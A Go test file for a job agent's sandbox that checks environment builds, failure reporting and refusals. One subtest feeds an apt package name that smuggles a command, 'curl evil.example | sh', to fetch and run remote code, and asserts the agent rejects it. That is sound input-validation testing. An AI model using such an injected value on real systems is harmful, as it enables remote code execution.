package sandbox

import (
	"context"
	"fmt"
	"io"
	"sync"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/ferry-hpc/ferry/pkg/env"
)

// fakeEnvs is an Environments that records what it was asked for.
type fakeEnvs struct {
	mu    sync.Mutex
	calls []string // "base|summary"
	err   error
}

func (f *fakeEnvs) Ensure(_ context.Context, spec env.Spec, base string, log io.Writer) (env.ImageRef, error) {
	f.mu.Lock()
	f.calls = append(f.calls, base+"|"+spec.Summary())
	f.mu.Unlock()
	fmt.Fprintln(log, "building environment 3f2a9c01d2e4 (pip: 1 package)")
	if f.err != nil {
		return env.ImageRef{}, f.err
	}
	return env.ImageRef{Name: "ferry/env:3f2a9c01d2e4aaaa", ID: "sha256:envimage", Key: "3f2a9c01d2e4aaaa"}, nil
}

func TestAgentRunsInTheEnvironment(t *testing.T) {
	fx := newFixture(t)
	eng := newFakeEngine()
	eng.output, eng.exitCode = []byte("imported\n"), exitCode(0)
	ta := newTestAgent(fx, eng)
	envs := &fakeEnvs{}
	ta.agent.Environments = envs
	ta.serve(t)

	req := fx.req
	req.Environment = &env.Spec{Pip: []string{"scipy"}}
	var out syncBuffer
	exit, err := ta.client.Launch(context.Background(), req, &out)
	require.NoError(t, err)
	assert.Equal(t, "building environment 3f2a9c01d2e4 (pip: 1 package)\nimported\n", out.String(), "the build's lines reach the job's log first")
	assert.Equal(t, []string{req.Image + "|pip: 1 package"}, envs.calls, "built FROM the allowlisted image the job named")
	specs := eng.startedSpecs()
	require.Len(t, specs, 1)
	assert.Equal(t, "sha256:envimage", specs[0].Image, "the container runs the environment's image")
	assert.Equal(t, "3f2a9c01d2e4aaaa", exit.Environment, "the exit names the environment")
	ta.waitIdle(t)
}

func TestAgentEnvironmentFailures(t *testing.T) {
	t.Run("a failed build fails the job with its lines", func(t *testing.T) {
		fx := newFixture(t)
		eng := newFakeEngine()
		ta := newTestAgent(fx, eng)
		ta.agent.Environments = &fakeEnvs{err: &env.BuildError{Key: "3f2a9c01d2e4aaaa", Reason: "pip install failed (exit 1)",
			Lines: []string{"ERROR: Could not find a version that satisfies the requirement nosuchpkg", "ERROR: No matching distribution found for nosuchpkg"}, Cached: true}}
		ta.serve(t)
		req := fx.req
		req.Environment = &env.Spec{Pip: []string{"nosuchpkg"}}
		var out syncBuffer
		_, err := ta.client.Launch(context.Background(), req, &out)
		require.Error(t, err)
		assert.Equal(t, "ferry agent: environment: 3f2a9c01d2e4 failed to build: pip install failed (exit 1) (the build's last lines are in the log)", err.Error(), "one line")
		assert.Contains(t, out.String(), "  | ERROR: No matching distribution found for nosuchpkg\n", "the job's log has the build's last lines")
		assert.False(t, IsRefusal(err))
		assert.Empty(t, eng.startedSpecs(), "no container started")
		ta.waitIdle(t)
	})
	t.Run("no builder: refused", func(t *testing.T) {
		fx := newFixture(t)
		ta := startAgent(t, fx, newFakeEngine())
		req := fx.req
		req.Environment = &env.Spec{Apt: []string{"jq"}}
		_, err := ta.client.Launch(context.Background(), req, io.Discard)
		require.Error(t, err)
		assert.True(t, IsRefusal(err))
		assert.Contains(t, err.Error(), "this cluster builds no environments")
	})
	t.Run("a hand-made spec is checked again", func(t *testing.T) {
		fx := newFixture(t)
		ta := newTestAgent(fx, newFakeEngine())
		envs := &fakeEnvs{}
		ta.agent.Environments = envs
		ta.serve(t)
		req := fx.req
		req.Environment = &env.Spec{Apt: []string{"jq; curl evil.example | sh"}}
		_, err := ta.client.Launch(context.Background(), req, io.Discard)
		require.Error(t, err)
		assert.True(t, IsRefusal(err))
		assert.Contains(t, err.Error(), "environment: apt package")
		assert.Empty(t, envs.calls, "nothing was built")
	})
}
